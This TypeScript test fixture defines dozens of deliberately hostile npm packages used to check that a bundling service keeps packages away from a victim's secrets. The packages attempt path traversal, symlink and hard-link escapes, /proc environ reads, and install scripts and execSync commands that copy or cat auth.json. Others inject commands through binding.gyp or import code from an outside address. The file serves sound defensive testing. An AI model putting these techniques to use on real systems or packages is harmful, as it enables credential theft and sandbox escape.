import type { NpmContent } from "@svc/fakes/npm";

/** Where the secrets of a hostile package's victim lie. */
export interface Victim {
  /** Folder with `auth.json`, `notes.txt`, `lib.js`, `map.json` and others, absolute. */
  secrets: string;
  /** Folder in which nothing may be written, absolute. */
  outside: string;
  /** The `DENO_DIR` of the victim's own projects, absolute. */
  denoDir: string;
  /** An address that nobody may be made to ask. */
  stranger: string;
  /** Name of an environment variable. */
  variable: string;
}

/** A package that wants what is not its own. Its default export is what it got. */
export interface HostilePackage extends NpmContent {
  /** It is bundled, without what it wants; svc refuses the others. */
  bundled?: true;
  /** What the extension imports; `npm:<name>@1.0.0` unless given. */
  specifier?: string;
  /** Files of the extension beside its model. */
  beside?: Record<string, string>;
}

/** Packages by the way they take, each named by it. */
export function hostilePackages(victim: Victim): Record<string, HostilePackage> {
  const { secrets, outside, denoDir, stranger, variable } = victim;
  const up = "../".repeat(24);
  const climb = (path: string) => `${up}${path.slice(1)}`;
  const auth = `${secrets}/auth.json`;
  const take = (specifier: string, type?: string) =>
    `import v from ${JSON.stringify(specifier)}${
      type === undefined ? "" : ` with { type: "${type}" }`
    };\nexport default v;`;
  const index = (text: string, manifest: Record<string, unknown> = {}): HostilePackage => ({
    manifest: { type: "module", main: "index.js", ...manifest },
    files: { "index.js": text },
  });
  const common = (text: string): HostilePackage => ({
    manifest: { main: "index.js" },
    files: { "index.js": text },
  });
  const dependent = (name: string, range: string) =>
    index(take(name), { dependencies: { [name]: range } });
  const bundled = (text: string, manifest: Record<string, unknown> = {}): HostilePackage => ({
    ...index(text, manifest),
    bundled: true,
  });
  const links = (type: "symlink" | "link", target: string, path: string): HostilePackage => ({
    ...index(take(path, "text")),
    entries: [{ name: `package/${path.slice(2).split("/")[0]}`, type, target }],
  });
  const attributes = ["text", "bytes", "json", "file", "dataurl", "base64", "binary", "css", "url"];
  return {
    ...Object.fromEntries(
      attributes.map((type) => [`${type}-climbing`, index(take(climb(auth), type))]),
    ),
    "text-absolute": index(take(auth, "text")),
    "json-absolute": index(take(auth, "json")),
    // Deno leaves what it knows no kind for to the native part of the bundler.
    "text-without-attribute": index(take(climb(`${secrets}/notes.txt`))),
    "text-required": common(`module.exports = { default: require("${secrets}/notes.txt") };`),
    "text-folded": index(
      `export default (await import("${secrets}" + "/notes.txt")).default;`,
    ),
    "text-by-package-path": {
      ...index(take("secret")),
      files: {
        "index.js": take("secret"),
        "tsconfig.json": JSON.stringify({
          compilerOptions: { paths: { secret: [`${secrets}/notes.txt`] } },
        }),
      },
    },
    "token-of-no-kind": index(`import "${climb(`${secrets}/token`)}";\nexport default "";`),
    "file-url": index(take(`file://${auth}`, "text")),
    "file-url-encoded": index(take(`file://${auth.replace("auth", "%61uth")}`, "text")),
    "module": index(take(climb(`${secrets}/lib.js`))),
    "module-typescript": index(take(climb(`${secrets}/lib.ts`))),
    "json-without-attribute": index(take(climb(auth))),
    "wasm": index(`import * as v from "${climb(`${secrets}/module.wasm`)}";\nexport default v;`),
    "native": index(take(climb(`${secrets}/native.node`))),
    "css": {
      ...index(`import "./own.css";\nexport default "";`),
      files: {
        "index.js": `import "./own.css";\nimport "${climb(`${secrets}/style.css`)}";\n` +
          `export default "";`,
        "own.css": `@import "${climb(`${secrets}/style.css`)}";\n` +
          `a { background: url("${climb(`${secrets}/notes.txt`)}") }`,
      },
    },
    "asset": bundled(
      `export default new URL("${climb(`${secrets}/notes.txt`)}", import.meta.url).href;`,
    ),
    "worker": bundled(
      `export default String(new Worker(new URL("${
        climb(`${secrets}/lib.js`)
      }", import.meta.url), { type: "module" }));`,
    ),
    "dynamic": index(
      `export default (await import("${climb(auth)}", { with: { type: "text" } })).default;`,
    ),
    "dynamic-constant": index(
      `const path = "${auth}";\nconst options = { with: { type: "json" } };\n` +
        `export default JSON.stringify((await import(path, options)).default);`,
    ),
    "dynamic-folded": index(
      `export default (await import("file:" + "//${auth}", { with: { type: "text" } })).default;`,
    ),
    "require": common(`module.exports = { default: require("${auth}") };`),
    "require-climbing": common(`module.exports = { default: require("${climb(auth)}") };`),
    "require-constant": common(
      `const path = "${auth}";\nmodule.exports = { default: require(path) };`,
    ),
    "require-created": index(
      `import { createRequire } from "node:module";\n` +
        `export default createRequire(import.meta.url)("${auth}");`,
    ),
    "re-export": index(`export { default } from "${climb(`${secrets}/lib.js`)}";`),
    "data-module": index(
      take(
        `data:text/javascript,import v from "file://${auth}" with {type:"text"};export default v`,
      ),
    ),
    "environment-file": index(take("/proc/self/environ", "text")),
    "environment-bytes": index(take(climb("/proc/self/environ"), "bytes")),
    "environment-parent": index(take(`/proc/${Deno.pid}/environ`, "text")),
    "environment-inlined": bundled(
      `let v = "";\ntry { v = process.env.${variable} } catch {}\n` +
        `try { v ||= import.meta.env.${variable} } catch {}\nexport default v ?? "";`,
    ),
    "device": index(take("/dev/zero", "bytes")),
    "folder": index(take(`${climb(secrets)}/`, "text")),
    "source-map": bundled(
      `export default "";\n//# sourceMappingURL=${climb(`${secrets}/map.json`)}`,
    ),
    "source-map-url": bundled(
      `export default "";\n//# sourceMappingURL=file://${secrets}/map.json`,
    ),
    "source-map-sources": bundled(
      `export default "";\n//# sourceMappingURL=data:application/json,${
        encodeURIComponent(JSON.stringify({
          version: 3,
          sources: [climb(auth)],
          names: [],
          mappings: "AAAA",
        }))
      }`,
    ),
    "symlink": links("symlink", auth, "./linked.txt"),
    "symlink-climbing": links("symlink", climb(auth), "./linked.txt"),
    "symlink-folder": links("symlink", secrets, "./linked/auth.json"),
    "symlink-then-file": {
      ...bundled(`export default "";`),
      entries: [
        { name: "package/out", type: "symlink", target: outside },
        { name: "package/out/written-through.txt", text: "x" },
      ],
    },
    "hard-link": links("link", auth, "./linked.txt"),
    "hard-link-climbing": links("link", climb(auth), "./linked.txt"),
    ...Object.fromEntries(
      [`package/${climb(outside)}`, climb(outside), outside, `package//${outside}`].map(
        (folder, number) => [`tarball-path-${number}`, {
          ...index(`export default "";`),
          entries: [{ name: `${folder}/escaped-${number}.txt`, text: "x" }],
        }],
      ),
    ),
    "scripts": index(take("./stolen.txt", "text"), {
      scripts: Object.fromEntries(
        ["preinstall", "install", "postinstall", "prepare"].map((script) => [
          script,
          `cp ${auth} stolen.txt; touch ${outside}/${script}`,
        ]),
      ),
      hasInstallScript: true,
    }),
    "gyp": {
      ...bundled(`export default "";`),
      files: {
        "index.js": `export default "";`,
        "binding.gyp": `{"targets":[{"x":"<!(touch ${outside}/gyp)"}]}`,
      },
    },
    "bin": bundled(`export default "";`, { bin: { git: climb(`${secrets}/lib.js`) } }),
    "exports": index("", { exports: { ".": climb(`${secrets}/lib.js`) } }),
    "exports-dotted": index("", { exports: { ".": `./${climb(`${secrets}/lib.js`)}` } }),
    "exports-encoded": index("", {
      exports: { ".": `./${climb(`${secrets}/lib.js`).replaceAll("../", "%2e%2e/")}` },
    }),
    "exports-pattern": {
      ...index("", { exports: { "./*": "./*" } }),
      specifier: `npm:exports-pattern@1.0.0/${climb(`${secrets}/lib.js`)}`,
    },
    "exports-url": index("", { exports: { ".": `file://${secrets}/lib.js` } }),
    "main": index("", { main: climb(`${secrets}/lib.js`) }),
    "main-absolute": index("", { main: `${secrets}/lib.js` }),
    "module-field": index("", { main: undefined, module: climb(`${secrets}/lib.js`) }),
    "browser-field": bundled(`export default "";`, {
      browser: { "./index.js": climb(`${secrets}/lib.js`) },
    }),
    "imports-map": index(take("#secret"), { imports: { "#secret": climb(`${secrets}/lib.js`) } }),
    "imports-dotted": index(take("#secret"), {
      imports: { "#secret": `./${climb(`${secrets}/lib.js`)}` },
    }),
    "tsconfig": {
      ...index(take("secret")),
      files: {
        "index.ts": take("secret"),
        "index.js": take("secret"),
        "tsconfig.json": JSON.stringify({
          extends: climb(auth),
          compilerOptions: { paths: { secret: [`${secrets}/lib.js`] } },
        }),
      },
    },
    "configuration-beside": {
      ...index(take("secret")),
      beside: {
        "tsconfig.json": JSON.stringify({
          compilerOptions: { paths: { "*": [`${secrets}/lib.js`] } },
        }),
        "package.json": JSON.stringify({ imports: { "#secret": `${secrets}/lib.js` } }),
        "deno.json": JSON.stringify({ imports: { secret: `${secrets}/lib.js` } }),
      },
    },
    "dependency-file": dependent("kept", `file:${secrets}`),
    "dependency-link": dependent("kept", `link:${secrets}`),
    "dependency-git": dependent("kept", `git+file://${secrets}`),
    "dependency-http": dependent("kept", `${stranger}/kept.tgz`),
    "dependency-path": dependent(climb(secrets), "1.0.0"),
    "dependency-private": dependent("@private/lib", "1.0.0"),
    "undeclared-private": index(take("@private/lib")),
    "npm-private": index(take("npm:@private/lib@1.0.0")),
    "extension-private": {
      ...index(`export default "";`),
      specifier: "npm:@private/lib@1.0.0",
    },
    "cached-private": index(take(climb(`${denoDir}/private/1.0.0/index.js`))),
    "path-as-name": { ...index(""), specifier: `npm:${climb(`${secrets}/lib.js`)}` },
    "path-in-version": { ...index(""), specifier: `npm:path-in-version@${climb(secrets)}` },
    "path-behind-name": {
      ...index(""),
      specifier: `npm:path-behind-name@1.0.0/${climb(`${secrets}/lib.js`)}`,
    },
    "http-import": index(take(`${stranger}/x.js`)),
    "node-read": index(
      `import { readFileSync } from "node:fs";\nexport default readFileSync("${auth}", "utf8");`,
    ),
    "node-read-in-silence": bundled(
      `import { readFileSync } from "node:fs";\nlet v = "";\n` +
        `try { v = readFileSync("${auth}", "utf8") } catch {}\nexport default v;`,
    ),
    "node-run": bundled(
      `import { execSync } from "node:child_process";\nlet v = "";\n` +
        `try { v = String(execSync("touch ${outside}/ran; cat ${auth}")) } catch {}\n` +
        `export default v;`,
    ),
    "node-write": bundled(
      `import { writeFileSync } from "node:fs";\n` +
        `try { writeFileSync("${outside}/node-write", "x") } catch {}\nexport default "";`,
    ),
    "node-dynamic": bundled(
      `let v = "";\ntry {\n  const name = ["${auth}"].join("");\n` +
        `  v = JSON.stringify((await import(name, { with: { type: "json" } })).default);\n` +
        `} catch {}\nexport default v;`,
    ),
  };
}
